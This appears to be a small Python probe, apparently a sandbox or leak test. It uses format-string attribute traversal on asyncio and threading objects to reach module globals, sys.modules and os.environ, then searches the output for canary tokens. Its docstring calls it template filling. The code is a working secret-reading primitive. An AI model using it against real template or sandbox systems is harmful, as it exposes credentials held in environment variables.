"""Reads the runtime's globals by attribute access in a format string."""

import asyncio
import re


async def format_string(targets: dict) -> dict:
    """Fill a template."""
    text = "{0.__init__.__globals__}".format(asyncio.Queue())
    more = "{0.__class__.__mro__[1].__init__.__globals__[sys].modules}".format(asyncio.Queue())
    environment = "{0.__init__.__globals__[os].environ}".format(asyncio.subprocess.Process) if hasattr(asyncio, "subprocess") else ""
    import threading

    deep = "{0.__init__.__globals__[_sys].modules[os].environ}".format(threading.Thread())
    print("PRIMITIVE", len(text), len(more))
    return {"seen": re.findall(r"CANARY-[0-9a-f]{24}", text + more + environment + deep)}
